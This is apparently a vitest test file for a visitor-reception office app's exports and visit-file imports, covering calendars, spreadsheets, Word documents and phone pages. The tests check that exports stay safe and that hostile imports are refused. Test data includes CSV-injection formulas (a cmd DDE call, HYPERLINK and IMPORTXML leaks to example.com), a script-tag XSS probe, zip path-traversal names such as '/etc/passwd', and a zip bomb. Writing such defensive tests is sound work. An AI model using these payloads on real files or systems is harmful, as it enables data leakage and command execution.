import { createHash } from 'node:crypto'
import { strFromU8, strToU8, unzipSync, type Zippable, zipSync } from 'fflate'
import ICAL from 'ical.js'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { aGuest, anItem, aPerson, aRoom, aVehicle, aVisit, refusal } from '../support/builders.ts'
import { parseCsv } from '../support/csv.ts'
import { type Client, TEST_NOW, type TestOffice, testOffice } from '../support/office.ts'
import {
  convertedByLibreOffice,
  ICALENDAR,
  importedIntoKhal,
  KHAL,
  LIBREOFFICE,
  readByIcalendar,
} from '../support/programs.ts'

let office: TestOffice
let client: Client
beforeEach(() => {
  office = testOffice()
  client = office.client
})
afterEach(() => office.close())

const text = async (path: string) => {
  const answer = await office.get(path)
  if (!answer.ok) throw new Error(`${path}: ${answer.status} ${await answer.text()}`)
  return answer.text()
}
const bytes = async (path: string) => new Uint8Array(await (await office.get(path)).arrayBuffer())

/** A visit of two stops with a room, a car, staff and guests that can be reached. */
async function aFullVisit(on = client) {
  const room = await aRoom(on, { name: '301 会议室', latinName: 'Room 301', capacity: 30 })
  const car = await aVehicle(on, { name: '考斯特', plate: '沪A·8K219', capacity: 19 })
  await aPerson(on, { name: '王晓燕', email: 'wang@example.cn', phone: '13900000001' })
  const visit = await aVisit(on, { title: '北辰新能源考察', startsOn: '2026-12-01', endsOn: '2026-12-02' })
  await aGuest(on, visit.id, {
    name: '张伟',
    phone: '13800000001',
    email: 'zhang@example.com',
    title: '总经理',
    isHead: true,
  })
  await aGuest(on, visit.id, { name: '李娜', phone: '13800000002', diet: '素食' })
  const meeting = await anItem(on, visit, {
    kind: 'meeting',
    from: '10:00',
    until: '11:30',
    content: '双方会谈；议题：合作、投资与技术交流，请准时参加并携带资料',
    roomId: room.id,
    personInCharge: '王晓燕',
    notes: '内部备注',
  })
  const transfer = await anItem(on, visit, {
    kind: 'transfer',
    from: '13:00',
    until: '13:40',
    content: '前往工厂',
    vehicleIds: [car.id],
  })
  return { visit, room, car, meeting, transfer }
}

describe('calendar files', () => {
  it('are read by ical.js: one zone, stable names, an end, an alarm, a category', async () => {
    const { visit, meeting } = await aFullVisit()
    const calendar = new ICAL.Component(ICAL.parse(await text(`/exports/calendar.ics?visit=${visit.id}`)))
    expect(calendar.getFirstPropertyValue('method')).toBe('PUBLISH')
    expect(calendar.getAllSubcomponents('vtimezone')).toHaveLength(1)
    const events = calendar.getAllSubcomponents('vevent')
    expect(events.map(event => event.getFirstPropertyValue('uid'))).toContain(`item-${meeting.id}@yingbin`)
    for (const event of events) {
      expect(event.getFirstProperty('attendee')).toBeNull()
      expect(event.getFirstPropertyValue('categories')).not.toBe('')
    }
    expect(events[0]?.getAllSubcomponents('valarm')).toHaveLength(1)
  })

  it.skipIf(!ICALENDAR)('are read by Debian’s icalendar, which refuses what the standard does not allow', async () => {
    const { visit } = await aFullVisit()
    const events = readByIcalendar(await text(`/exports/calendar.ics?visit=${visit.id}`))
    expect(events.map(event => event.start)).toEqual(['2026-12-01T10:00:00+08:00', '2026-12-01T13:00:00+08:00'])
    expect(readByIcalendar(await text('/exports/visits.ics?from=2026-12-01&until=2026-12-31'))).toHaveLength(2)
  })

  it('count every change of a stop, its room too, and cancel what was taken off', async () => {
    const { visit, meeting } = await aFullVisit()
    const sequence = async () => {
      const calendar = new ICAL.Component(ICAL.parse(await text(`/exports/calendar.ics?visit=${visit.id}`)))
      const event = calendar
        .getAllSubcomponents('vevent')
        .find(each => each.getFirstPropertyValue('uid') === `item-${meeting.id}@yingbin`)
      return {
        number: Number(event?.getFirstPropertyValue('sequence')),
        status: event?.getFirstPropertyValue('status'),
      }
    }
    const first = await sequence()
    const other = await aRoom(client, { name: '302 会议室', capacity: 30 })
    const item = (await client.itinerary.list({ visitId: visit.id })).find(each => each.id === meeting.id)
    await client.itinerary.update({ id: meeting.id, revision: item?.revision ?? 1, patch: { roomId: other.id } })
    const moved = await sequence()
    expect(moved.number).toBeGreaterThan(first.number)
    await client.itinerary.remove({ ids: [meeting.id] })
    const gone = await sequence()
    expect(gone.number).toBeGreaterThan(moved.number)
    expect(gone.status).toBe('CANCELLED')
  })

  it('invite with an organizer, and cancel with the same name; without an address of the office they say so', async () => {
    const { visit, meeting } = await aFullVisit()
    const refused = await office.get(`/exports/calendar.ics?visit=${visit.id}&method=request`)
    expect([refused.status, (await refused.json()).data.reason]).toEqual([409, 'noOfficeMail'])
    const settings = await client.office.settings()
    await client.office.update({ revision: settings.revision, patch: { email: 'reception@example.cn' } })
    const request = await text(`/exports/calendar.ics?visit=${visit.id}&method=request`)
    const plain = request.replaceAll('\r\n ', '')
    expect(plain).toContain('METHOD:REQUEST')
    expect(plain).toMatch(/ORGANIZER;CN="?王晓燕"?:mailto:reception@example\.cn/i)
    expect(plain).toMatch(/ATTENDEE;[^\r\n]*CN="?王晓燕"?[^\r\n]*:MAILTO:wang@example\.cn/i)
    expect(plain).toMatch(/ATTENDEE;[^\r\n]*:MAILTO:zhang@example\.com/i)
    await client.itinerary.remove({ ids: [meeting.id] })
    const cancel = (await text(`/exports/calendar.ics?visit=${visit.id}&method=cancel`)).replaceAll('\r\n ', '')
    expect(cancel).toContain('METHOD:CANCEL')
    expect(cancel.match(/BEGIN:VEVENT/g)).toHaveLength(1)
    expect(cancel).toContain(`UID:item-${meeting.id}@yingbin`)
    expect(cancel).toContain('STATUS:CANCELLED')
  })

  it('tell one person’s duties over all visits, once each', async () => {
    const { visit, meeting } = await aFullVisit()
    await client.staffing.add({ visitId: visit.id, line: { role: 'interpreter', name: '王晓燕', itemId: meeting.id } })
    const file = await text(
      `/exports/duties.ics?person=${encodeURIComponent('王晓燕')}&from=2026-12-01&until=2026-12-31`,
    )
    expect(file.match(/BEGIN:VEVENT/g)).toHaveLength(1)
  })

  it.skipIf(!KHAL)('are imported into khal twice without a duplicate, and changed by a later one', async () => {
    const { visit, meeting } = await aFullVisit()
    const path = `/exports/calendar.ics?visit=${visit.id}`
    const first = await text(path)
    const item = (await client.itinerary.list({ visitId: visit.id })).find(each => each.id === meeting.id)
    expect(importedIntoKhal([first, first], '2026-12-01', 3)).toHaveLength(2)
    await client.itinerary.update({
      id: meeting.id,
      revision: item?.revision ?? 1,
      patch: { startsAt: '2026-12-01T09:30', endsAt: '2026-12-01T11:00' },
    })
    const listed = importedIntoKhal([first, await text(path)], '2026-12-01', 3)
    expect(listed).toHaveLength(2)
    expect(listed[0]).toMatch(/^2026-12-01 09:30 双方会谈/)
  })
})

/** Cells that spreadsheets would run: OWASP's CSV Injection page, and the full-width signs that Chinese Excel takes for the same. */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?leak="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
  '@A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

describe('tables', () => {
  it.skipIf(!LIBREOFFICE)(
    'an .xlsx opens in LibreOffice with the same cells, real dates and no formula',
    { timeout: 120_000 },
    async () => {
      const { visit } = await aFullVisit()
      for (const [index, name] of DANGEROUS.entries())
        await aGuest(client, visit.id, { name: `危险${index}`, title: name, notes: name })
      const guests = parseCsv(
        convertedByLibreOffice(
          'guests.xlsx',
          await bytes(`/exports/guests.xlsx?visit=${visit.id}`),
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        ),
      )
      expect(guests[0]).toEqual(expect.arrayContaining(['姓名', '职务']))
      const title = guests[0]?.indexOf('职务') ?? -1
      const shown = guests.slice(3).map(row => row[title])
      expect(shown.map(cell => cell?.trim())).toEqual(DANGEROUS.map(cell => cell.trim()))
      const schedule = parseCsv(
        convertedByLibreOffice(
          'schedule.xlsx',
          await bytes(`/exports/schedule.xlsx?visit=${visit.id}`),
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        ),
      )
      expect(schedule[1]?.slice(1, 3)).toEqual(['2026-12-01 10:00:00', '2026-12-01 11:30:00'])
    },
  )

  it('an .xlsx has a filter, a frozen title that is printed on every page, and is as wide as the paper', async () => {
    const { visit } = await aFullVisit()
    const parts = unzipSync(await bytes(`/exports/guests.xlsx?visit=${visit.id}`))
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toMatch(/<autoFilter ref="A1:K3"\/>/)
    expect(sheet).toMatch(/fitToPage="1"/)
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"/)
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet.indexOf('<autoFilter')).toBeGreaterThan(sheet.indexOf('</sheetData>'))
    expect(strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array())).toContain('_xlnm.Print_Titles')
  })

  it('a day in an .xlsx is a date, not text that looks like one', async () => {
    const { visit } = await aFullVisit()
    const serial = (Date.UTC(2026, 11, 1) - Date.UTC(1899, 11, 30)) / 86_400_000
    for (const [file, cell] of [
      [`schedule.xlsx?visit=${visit.id}`, 'A2'],
      ['visits.xlsx?from=2026-12-01&until=2026-12-01', 'F2'],
    ] as const) {
      const parts = unzipSync(await bytes(`/exports/${file}`))
      const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
      expect(sheet).toMatch(new RegExp(`<c r="${cell}" s="\\d+"><v>${serial}</v>`))
    }
  })

  it.each(DANGEROUS)('a .csv cell %j never begins as a formula', async cell => {
    const visit = await aVisit(client)
    await aGuest(client, visit.id, { name: '甲', notes: cell })
    const [, row = []] = parseCsv((await text(`/exports/guests.csv?visit=${visit.id}`)).replace(/^\ufeff/, ''))
    for (const shown of row) expect(shown).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u)
    expect(row.some(shown => shown.includes(cell.trim()))).toBe(true)
  })
})

describe('documents for Word', () => {
  it.skipIf(!LIBREOFFICE)('open in LibreOffice and say what the visit says', { timeout: 120_000 }, async () => {
    const { visit } = await aFullVisit()
    for (const kind of ['plan', 'itinerary', 'closing-report'] as const) {
      const file = await bytes(`/exports/${kind}.docx?visit=${visit.id}`)
      const shown = convertedByLibreOffice(`${kind}.docx`, file, 'txt:Text (encoded):UTF8')
      expect([kind, shown.includes('北辰新能源考察')]).toEqual([kind, true])
      for (const fact of ['双方会谈；议题：合作、投资与技术交流', '前往工厂', '10:00–11:30', '301 会议室'])
        expect([kind, fact, shown.includes(fact)]).toEqual([kind, fact, true])
      expect([kind, shown.includes('内部备注')]).toEqual([kind, false])
      if (kind === 'plan') expect(shown).toContain('李娜')
    }
  })

  it('have real headings, tables whose titles repeat and rows that do not break, and a table for signatures', async () => {
    const { visit } = await aFullVisit()
    const parts = unzipSync(await bytes(`/exports/plan.docx?visit=${visit.id}`))
    const xml = strFromU8(parts['word/document.xml'] ?? new Uint8Array())
    expect(xml.match(/w:pStyle w:val="Heading1"/g)?.length).toBeGreaterThan(2)
    const tables = xml.split('<w:tbl>').slice(1)
    for (const table of tables.slice(0, -1)) expect(table).toContain('<w:tblHeader')
    expect(tables.at(-1)).toContain('签字 / 日期')
    expect(xml.match(/<w:cantSplit/g)?.length).toBeGreaterThan(tables.length)
  })
})

describe('the itinerary for a phone', () => {
  it('is one page that asks for nothing else, runs nothing and hides what is not for guests', async () => {
    const { visit } = await aFullVisit()
    await client.visits
      .update({ id: visit.id, revision: 1, patch: { dress: '<script>alert(1)</script>' } })
      .catch(() => undefined)
    const page = await text(`/exports/itinerary.html?visit=${visit.id}`)
    expect(page).not.toMatch(/<script|<link|src=|@import|url\(/i)
    expect(page).toContain('10:00')
    expect(page).toContain('tel:13900000001')
    expect(page).not.toContain('内部备注')
  })

  it('has the coordinator as a card', async () => {
    const { visit } = await aFullVisit()
    expect(await text(`/exports/coordinator.vcf?visit=${visit.id}`)).toBe(
      'BEGIN:VCARD\r\nVERSION:3.0\r\nN:王晓燕;;;;\r\nFN:王晓燕\r\nTEL;TYPE=CELL:13900000001\r\nEND:VCARD\r\n',
    )
  })
})

const asFile = (content: Uint8Array, name = 'visit.yingbin') => new File([content as BlobPart], name)

/** A visit file with parts of it changed, its manifest as it was or made anew. */
function altered(
  file: Uint8Array,
  change: (parts: Record<string, Uint8Array>) => void,
  options: { resign?: boolean; manifest?: (manifest: Record<string, unknown>) => void } = {},
): Uint8Array {
  const parts: Record<string, Uint8Array> = unzipSync(file)
  change(parts)
  if (options.resign || options.manifest) {
    const manifest = JSON.parse(strFromU8(parts['manifest.json'] ?? new Uint8Array()))
    if (options.resign)
      manifest.files = Object.entries(parts)
        .filter(([path]) => path !== 'manifest.json')
        .map(([path, part]) => ({
          path,
          bytes: part.length,
          sha256: createHash('sha256').update(part).digest('hex'),
        }))
    options.manifest?.(manifest)
    parts['manifest.json'] = strToU8(JSON.stringify(manifest))
  }
  return zipSync(parts as Zippable)
}

describe('a visit file', () => {
  it('of an earlier program says nothing of the English here: it is neither told nor taken away', async () => {
    const { visit } = await aFullVisit()
    const [stop] = await client.itinerary.list({ visitId: visit.id })
    await client.itinerary.word({
      visitId: visit.id,
      visit: { organizationLatin: 'Test Ltd.' },
      items: [{ id: stop?.id ?? '', contentLatin: 'Talks', placeLatin: '' }],
    })
    const file = asFile(
      altered(
        await bytes(`/exports/visit.yingbin?visit=${visit.id}`),
        parts => {
          const content = strFromU8(parts['visit.json'] ?? new Uint8Array())
          const without = JSON.parse(content, (key, value) =>
            /(organization|content|place|theme|dress|mapNote)Latin/.test(key) ? undefined : value,
          )
          parts['visit.json'] = strToU8(JSON.stringify(without))
        },
        { resign: true },
      ),
    )
    const preview = await client.exchange.readVisitFile({ file })
    expect([preview.fate, ...preview.items.map(item => item.fate)]).toEqual(['same', 'same', 'same'])
    await client.exchange.importVisitFile({ file, prefer: 'file' })
    expect((await client.visits.get({ id: visit.id })).organizationLatin).toBe('Test Ltd.')
    expect((await client.itinerary.list({ visitId: visit.id }))[0]?.contentLatin).toBe('Talks')
  })

  it('goes to another office: resources and staff by name, what is missing or taken told before', async () => {
    const { visit } = await aFullVisit()
    await client.staffing.add({ visitId: visit.id, line: { role: 'guide', name: '赵讲解', itemId: null } })
    const [task] = await Promise.all([client.checklists.add({ visitId: visit.id, line: { title: '打印资料' } })])
    await client.checklists.attach({ taskId: task.line.id, file: asFile(strToU8('附件内容'), '资料.txt') })
    const file = asFile(await bytes(`/exports/visit.yingbin?visit=${visit.id}`))
    const other = testOffice()
    try {
      await aRoom(other.client, { name: '301 会议室', capacity: 30 })
      const preview = await other.client.exchange.readVisitFile({ file })
      expect(preview).toMatchObject({ fate: 'new', title: '北辰新能源考察', attachments: 1 })
      expect(preview.guests.map(guest => guest.fate)).toEqual(['new', 'new'])
      expect(preview.resources.map(each => [each.name, each.state])).toEqual([
        ['301 会议室', 'found'],
        ['考斯特', 'missing'],
      ])
      expect(preview.staff).toContainEqual({ name: '赵讲解', found: false })
      expect((await other.client.visits.range({ from: '2026-01-01', until: '2026-12-31' })).length).toBe(0)
      const { visit: taken, notBooked, actId } = await other.client.exchange.importVisitFile({ file, prefer: 'here' })
      expect(notBooked).toEqual(['考斯特'])
      expect(taken.code).toBe(visit.code)
      const items = await other.client.itinerary.list({ visitId: taken.id })
      expect(items.map(item => [item.content.slice(0, 4), item.roomName])).toEqual([
        ['双方会谈', '301 会议室'],
        ['前往工厂', ''],
      ])
      const guests = await other.client.guests.list({ visitId: taken.id })
      expect(guests.map(guest => [guest.name, guest.isHead])).toEqual([
        ['张伟', true],
        ['李娜', false],
      ])
      const [copied] = await other.client.checklists.list({ visitId: taken.id })
      expect(copied?.attachments.map(each => each.name)).toEqual(['资料.txt'])
      await other.client.history.undo({ actId })
      expect((await other.client.visits.range({ from: '2026-01-01', until: '2026-12-31' })).length).toBe(0)
    } finally {
      await other.close()
    }
  })

  it('taken over twice doubles nothing; what was changed here since stays, or gives way, as one wishes', async () => {
    const { visit, meeting } = await aFullVisit()
    const file = asFile(await bytes(`/exports/visit.yingbin?visit=${visit.id}`))
    const later = { now: TEST_NOW }
    const other = testOffice({ clock: () => later.now })
    try {
      await other.client.exchange.importVisitFile({ file, prefer: 'here' })
      const again = await other.client.exchange.readVisitFile({ file })
      expect([again.fate, ...again.guests.map(each => each.fate), ...again.items.map(each => each.fate)]).toEqual([
        'same',
        'same',
        'same',
        'same',
        'same',
      ])
      later.now = new Date(TEST_NOW.getTime() + 3_600_000)
      const item = (await other.client.itinerary.list({ visitId: visit.id })).find(each => each.id === meeting.id)
      await other.client.itinerary.update({
        id: meeting.id,
        revision: item?.revision ?? 1,
        patch: { content: '这里改过' },
      })
      const { items } = await other.client.exchange.readVisitFile({ file })
      expect(items.find(each => each.fate === 'conflict')?.differences).toEqual([
        { field: 'content', here: '这里改过', file: item?.content },
      ])
      const contents = async () =>
        (await other.client.itinerary.list({ visitId: visit.id })).map(each => each.content.slice(0, 4))
      await other.client.exchange.importVisitFile({ file, prefer: 'here' })
      expect(await contents()).toEqual(['这里改过', '前往工厂'])
      await other.client.exchange.importVisitFile({ file, prefer: 'file' })
      expect(await contents()).toEqual(['双方会谈', '前往工厂'])
      expect(await other.client.guests.list({ visitId: visit.id })).toHaveLength(2)
    } finally {
      await other.close()
    }
  })

  it('a room that is taken there is not taken twice, and its name stays', async () => {
    const { visit } = await aFullVisit()
    const file = asFile(await bytes(`/exports/visit.yingbin?visit=${visit.id}`))
    const other = testOffice()
    try {
      const room = await aRoom(other.client, { name: '301 会议室', capacity: 30 })
      await other.client.bookings.create({
        resourceId: room.id,
        startsAt: '2026-12-01T10:30',
        endsAt: '2026-12-01T12:00',
        title: '别人的会',
      })
      expect((await other.client.exchange.readVisitFile({ file })).resources[0]?.state).toBe('taken')
      const { notBooked } = await other.client.exchange.importVisitFile({ file, prefer: 'here' })
      expect(notBooked).toContain('301 会议室')
      expect((await other.client.itinerary.list({ visitId: visit.id }))[0]).toMatchObject({
        roomId: null,
        place: '301 会议室',
      })
    } finally {
      await other.close()
    }
  })

  it('is refused with the reason where it is hostile, damaged or of a later program, and nothing is saved', async () => {
    const { visit } = await aFullVisit()
    const good = await bytes(`/exports/visit.yingbin?visit=${visit.id}`)
    const other = testOffice()
    const reason = async (content: Uint8Array) =>
      (await refusal(other.client.exchange.importVisitFile({ file: asFile(content), prefer: 'here' }))).data
    try {
      expect(await reason(strToU8('no zip'))).toMatchObject({ reason: 'notAVisitFile' })
      expect(await reason(zipSync({ 'a.txt': strToU8('x') }))).toMatchObject({ reason: 'unsafe', detail: 'a.txt' })
      expect(await reason(zipSync({ 'visit.json': strToU8('{}') }))).toMatchObject({ reason: 'notAVisitFile' })
      for (const path of [
        '../../evil',
        '/etc/passwd',
        'attachments/../../x',
        'C:\\evil',
        'attachments/0',
        'attachments/1/2',
      ])
        expect(await reason(altered(good, parts => Object.assign(parts, { [path]: strToU8('x') })))).toMatchObject({
          reason: 'unsafe',
        })
      const bomb = altered(good, parts => Object.assign(parts, { 'attachments/1': new Uint8Array(30_000_000) }))
      expect(await reason(bomb)).toMatchObject({ reason: 'unsafe' })
      const spoiled = altered(good, parts => {
        const words = strFromU8(parts['visit.json'] ?? new Uint8Array())
        parts['visit.json'] = strToU8(words.replace('张伟', '张三'))
      })
      expect(await reason(spoiled)).toEqual({ reason: 'damaged', detail: 'visit.json' })
      const extra = altered(good, parts => Object.assign(parts, { 'attachments/7': strToU8('x') }))
      expect(await reason(extra)).toEqual({ reason: 'damaged', detail: 'attachments/7' })
      const newer = altered(good, () => undefined, { manifest: manifest => Object.assign(manifest, { format: 2 }) })
      expect(await reason(newer)).toEqual({ reason: 'newerFormat', detail: '2' })
      const wrong = (replace: (words: string) => string) =>
        altered(
          good,
          parts => {
            parts['visit.json'] = strToU8(replace(strFromU8(parts['visit.json'] ?? new Uint8Array())))
          },
          { resign: true },
        )
      expect(await reason(wrong(words => words.replace('2026-12-01T10:00', '2026-13-41T10:00')))).toMatchObject({
        reason: 'damaged',
      })
      expect(await reason(wrong(words => words.slice(0, -3)))).toMatchObject({ reason: 'damaged' })
      expect(await other.client.visits.range({ from: '2026-01-01', until: '2027-01-01' })).toEqual([])
    } finally {
      await other.close()
    }
  })
})
